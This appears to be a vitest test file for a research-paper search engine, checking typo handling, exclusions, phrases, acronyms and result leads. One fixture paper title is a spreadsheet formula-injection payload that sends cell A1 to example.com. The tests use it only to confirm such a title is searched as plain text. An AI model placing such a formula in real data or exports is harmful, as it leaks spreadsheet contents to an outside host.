import { afterEach, describe, expect, test, vi } from 'vitest';
import type { PaperView } from '../../../src/model/paper-view.ts';
import { readState } from '../../../src/search/engine/state.ts';
import { openEngine, papersOf } from '../open-engine.ts';

afterEach(() => {
	vi.unstubAllGlobals();
});

const titles = [
	'UI-R1: Enhancing Action Prediction of Agents',
	'A Study of GPT-4o and DeepSeek R1 on Long Documents',
	'Deep Seeking in R1 Space',
	'DeepSeek-Coder-V2: Breaking the Barrier of Closed Code',
	'Speculative Decoding with a Giraffe',
	'Mixture of Experts Meets Speculative Decoding',
	'MoE Routing in Practice',
	'Vision Mamba for Long Documents',
	'Mamba for Speech',
	'=HYPERLINK("https://example.com/?"&A1,"Prize")',
];
const abstracts = [
	'We train agents by rules.',
	'GPT-4o is asked about papers.',
	'Nothing is sought here by models that are deep.',
	'A code model, open to all.',
	'It has a long neck. Attention has sinks, and state collapse is seen.',
	'A Mixture of Experts (MoE) drafts tokens.',
	'Experts are chosen by a router.',
	'Images are scanned. Attention sinks appear.',
	'Sound is scanned. The collapse of a state is rare.',
	'A title that a spreadsheet runs.',
];
const papers = papersOf(...titles.map((title, at) => [title, abstracts[at]!] as const));

async function find(query: string, of: readonly PaperView[] = papers) {
	const { engine } = await openEngine(of);
	return engine.ask(readState(`?q=${encodeURIComponent(query)}`));
}

/** The papers that have all of what was asked for. */
async function findWhole(query: string) {
	const { papers: found, complete } = await find(query);
	return found.slice(0, complete);
}

describe('names of short parts', () => {
	test.each([
		['UI-R1', 0],
		['ui r1', 0],
		['uir1', 0],
		['gpt-4o', 1],
		['gpt4o', 1],
		['GPT 4o', 1],
		['deepseek r1', 1],
		['DeepSeek-R1', 1],
		['DeepSeek-Coder-V2', 3],
		['deepseek coder v2', 3],
	])('%s', async (query, expected) => {
		expect((await find(query)).papers[0]).toBe(expected);
	});
});

describe('words', () => {
	test('in any of their forms, and as a beginning while they are typed', async () => {
		expect(await findWhole('enhance predictions')).toEqual([0]);
		expect(await findWhole('giraf')).toEqual([4]);
		expect(await findWhole('predictio')).toEqual([0]);
	});

	test('where few papers have all of them, those that have most come behind', async () => {
		const {
			papers: found,
			complete,
			words,
		} = await find('speculative decoding drafts neck speech');
		expect(found.toSorted()).toEqual([4, 5]);
		expect({ complete, words }).toEqual({ complete: 0, words: { asked: 5, least: 3 } });
	});

	test('that only ask are not asked for', async () => {
		for (const query of [
			'how does UI-R1 work?',
			'what is UI-R1',
			'is there a paper about UI-R1?',
		])
			expect((await find(query)).papers, query).toEqual([0]);
	});

	test('with a slip are read as the nearest, which is said', async () => {
		const { papers: found, unknown } = await find('speculative decodnig');
		expect(found.toSorted()).toEqual([4, 5]);
		expect(unknown).toEqual([{ word: 'decodnig', nearest: ['decoding'] }]);
	});

	test('that no paper has nor any like it are named', async () => {
		expect(await find('zzyzzyx')).toMatchObject({
			papers: [],
			unknown: [{ word: 'zzyzzyx', nearest: [] }],
		});
	});

	test('that are too long to be words are named', async () => {
		const endless = 'z'.repeat(40);
		expect(await find(`mamba ${endless}`)).toMatchObject({
			papers: [8, 7],
			unknown: [{ word: endless, nearest: [] }],
		});
	});

	test('are not made of signs between them', async () => {
		for (const sign of ['/', '•', '_', '§'])
			expect((await find(`speculative ${sign} decoding`)).unknown, sign).toEqual([]);
	});

	test('are compared with all others where they are few', async () => {
		const slips = Array.from('abcdfghijkmnopqrtuvwxz', (letter) => `speech${letter}`);
		const { unknown: few } = await find(slips.slice(0, 5).join(' '));
		expect(few.filter(({ nearest }) => nearest[0] === 'speech')).toHaveLength(5);
		const { unknown: many } = await find(slips.join(' '));
		expect(many).toHaveLength(slips.length);
		expect(many.filter(({ nearest }) => nearest.length > 0)).toHaveLength(12);
	});

	test('behind one that is read as two stay beside it', async () => {
		const [apart, together] = [
			['A', 'Models of a context that is long.'],
			['B', 'It has long context models.'],
		] as const;
		const { papers: found } = await find('longcontext models ', papersOf(together, apart));
		expect(found).toEqual([0, 1]);
	});

	test('side by side come first', async () => {
		expect(await findWhole('attention sinks')).toEqual([7, 4]);
	});
});

describe('what is not wanted', () => {
	test.each([
		['mamba -vision', [8]],
		['mamba -speech', [7]],
		['decoding -"mixture of experts"', [4]],
		['decoding -moe', [4]],
		['long documents -GPT-4o', [7]],
		['mamba -zzyzzyx', [7, 8]],
	])('%s', async (query, expected) => {
		const { papers: found } = await find(query);
		expect(found.toSorted()).toEqual(expected);
	});

	test('alone leaves all others', async () => {
		expect((await find('-mamba')).papers).toHaveLength(papers.length - 2);
	});

	test('leads nowhere, and its paper is not put first', async () => {
		const mamba = { slug: 'mamba', name: 'Mamba', family: 'Mamba' };
		const named = papers.map((paper, number): PaperView => ({
			...paper,
			system: number === 8 ? 'Mamba' : undefined,
			systems: number >= 7 && number < 9 ? [mamba] : [],
		}));
		for (const query of ['-mamba', '-"mamba"']) {
			const { leads, papers: found } = await find(query, named);
			expect(leads, query).toEqual([]);
			expect(found.toSorted(), query).toEqual([0, 1, 2, 3, 4, 5, 6, 9]);
		}
		const { engine } = await openEngine(named);
		expect(await engine.pagesFor('mamba')).toHaveLength(1);
		expect(await engine.pagesFor('-mamba')).toEqual([]);
	});
});

describe('acronyms that papers explain', () => {
	test('find what they stand for, and it finds them', async () => {
		expect((await find('moe')).papers.toSorted()).toEqual([5, 6]);
		expect((await find('mixture of experts')).papers.toSorted()).toEqual([5, 6]);
		expect((await find('moe')).papers[0]).toBe(6);
	});
});

describe('a phrase', () => {
	test.each([
		['"state collapse"', [4]],
		['"collapse of a state"', [8]],
		['"DeepSeek R1"', [1]],
		['"collapse state"', []],
		['"mamba mamba"', []],
	])('is found word for word: %s', async (query, expected) => {
		expect((await find(query)).papers).toEqual(expected);
	});
});

test('a title finds its paper, also one that a spreadsheet would run', async () => {
	for (const [number, title] of titles.entries())
		expect((await find(title)).papers[0], title).toBe(number);
	for (const query of ['=HYPERLINK', '=HYPERLINK(...)', 'hyperlink'])
		expect((await find(query)).papers, query).toEqual([9]);
});

describe('a query leads to', () => {
	const named = papers.map((paper, number): PaperView => ({
		...paper,
		system: number === 8 ? 'Mamba' : undefined,
		systems:
			number >= 7 && number < 9 ? [{ slug: 'mamba', name: 'Mamba', family: 'Mamba' }] : [],
		topics: number === 6 ? [{ slug: 'mixture-of-experts', name: 'Mixture of Experts' }] : [],
	}));

	test('the paper that introduces a system, which comes first, and the system where others name it', async () => {
		const { leads, papers: found } = await find('what is mamba?', named);
		expect(leads).toEqual([
			{ kind: 'paper', name: titles[8], url: `/papers/${papers[8]!.id}/` },
			{ kind: 'system', name: 'Mamba', url: '/systems/mamba/' },
		]);
		expect(found).toEqual([8, 7]);
	});

	test('a topic, also by its acronym or in another form', async () => {
		const topic = {
			kind: 'topic',
			name: 'Mixture of Experts',
			url: '/topics/mixture-of-experts/',
		};
		for (const query of ['mixture of experts', 'Mixture-of-Expert', 'MoE'])
			expect((await find(query, named)).leads, query).toEqual([topic]);
		expect((await find('experts', named)).leads).toEqual([]);
	});

	test('the paper of an id', async () => {
		const { leads, papers: found } = await find(papers[3]!.id);
		expect(leads).toMatchObject([{ kind: 'paper', name: titles[3] }]);
		expect(found[0]).toBe(3);
	});

	test('the digests of a day, a month and a year, with their papers', async () => {
		const { digest } = papers[0]!.appearances[0]!;
		const day = digest.slice(0, 10);
		expect((await find(day)).leads).toMatchObject([{ kind: 'digest', name: digest }]);
		const month = await find(day.slice(0, 7));
		expect(month.leads).toMatchObject([{ kind: 'month', name: day.slice(0, 7) }]);
		expect(month.papers.length).toBe(papers.length);
		expect((await find(day.slice(0, 4))).leads).toMatchObject([{ kind: 'year' }]);
		expect((await find('1999-01-01')).leads).toEqual([]);
	});
});
